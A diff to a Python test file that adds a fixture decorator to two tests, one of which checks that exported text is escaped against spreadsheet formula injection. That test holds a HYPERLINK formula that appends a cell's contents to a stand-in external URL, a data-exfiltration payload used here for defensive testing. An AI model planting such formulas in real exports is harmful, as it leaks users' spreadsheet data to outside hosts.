@@ -102,6 +102,7 @@ def in_a_terminal(report: Report) -> str:
     return output.getvalue()
 
 
+@pytest.mark.usefixtures("no_pictures")
 def test_claims_are_no_formulas(tiny: Study, ledger: Ledger, tmp_path: Path) -> None:
     recipe: Recipe = tiny.recipes[1]
     words = '=HYPERLINK("http://example.org/?"&A1)\x07'
@@ -115,6 +116,7 @@ def test_claims_are_no_formulas(tiny: Study, ledger: Ledger, tmp_path: Path) -> 
     assert row["words"] == '\'=HYPERLINK("http://example.org/?"&A1) '
 
 
+@pytest.mark.usefixtures("no_pictures")
 @pytest.mark.parametrize("environment", [{}, {"packages": 7}, {"packages": [], "commit": 5}])
 def test_an_environment_may_hold_anything(
     environment: dict[str, object], tiny: Study, ledger: Ledger, tmp_path: Path
